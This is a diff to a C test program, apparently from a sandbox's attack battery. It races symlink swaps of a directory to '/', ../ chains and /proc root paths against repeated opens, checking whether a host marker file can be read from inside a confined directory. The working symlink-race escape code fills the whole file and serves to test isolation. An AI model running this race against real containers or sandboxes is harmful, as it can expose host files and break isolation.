@@ -1,6 +1,9 @@
 /* Two threads: one keeps swapping ./d between a directory and a symlink
  * pointing at "/" (and at long ../ chains); the other keeps opening
- * d/<target> and reports whether it ever read the marker's content. */
+ * d/<target> and reports whether it ever read the marker's content.
+ * Usage: race [path [marker [dir]]]: races in dir (default /tmp), e.g. a
+ * bind mount of a host directory. Also prints the attack battery's
+ * verdict line (tests/attacks). */
 #define _GNU_SOURCE
 #include <fcntl.h>
 #include <pthread.h>
@@ -8,9 +11,11 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/stat.h>
+#include <sched.h>
+#include <time.h>
 #include <unistd.h>
 
-static volatile int stop;
+static volatile int stop, swaps;
 static const char *targets[] = {"/", "../../../../../../../../..", "/../../..", "/proc/self/root", "/proc/1/root/../.."};
 
 static void *swapper(void *arg) {
@@ -22,6 +27,7 @@ static void *swapper(void *arg) {
         if (i & 1) mkdir("d", 0755);
         else symlink(targets[(i / 2) % 5], "d");
         i++;
+        swaps = i;
     }
     return NULL;
 }
@@ -29,11 +35,19 @@ static void *swapper(void *arg) {
 int main(int argc, char **argv) {
     const char *path = argc > 1 ? argv[1] : "d/tmp/marker";
     const char *marker = argc > 2 ? argv[2] : "HOST-SECRET";
-    chdir("/tmp");
+    const char *dir = argc > 3 ? argv[3] : "/tmp";
+    if (chdir(dir) != 0) {
+        printf("ATTACK symlink_race BLOCKED cannot enter %s\n", dir);
+        return 2;
+    }
     pthread_t t;
     pthread_create(&t, NULL, swapper, NULL);
     int opened = 0, leaks = 0;
-    for (int i = 0; i < 3000; i++) {
+    /* At least 3000 tries, and (natively, where they are fast) until some
+     * opens got through or two seconds have passed. */
+    while (!swaps) sched_yield();
+    time_t start = time(NULL);
+    for (int i = 0; i < 3000 || (opened < 100 && time(NULL) - start < 2); i++) {
         int fd = open(path, O_RDONLY);
         if (fd < 0) continue;
         opened++;
@@ -45,5 +59,9 @@ int main(int argc, char **argv) {
     stop = 1;
     pthread_join(t, NULL);
     printf("opened=%d leaks=%d\n", opened, leaks);
+    if (leaks)
+        printf("ATTACK symlink_race ESCAPED opened the host file through a swapped symlink\n");
+    else
+        printf("ATTACK symlink_race BLOCKED no open through the swapped path reached the host file\n");
     return leaks != 0;
 }
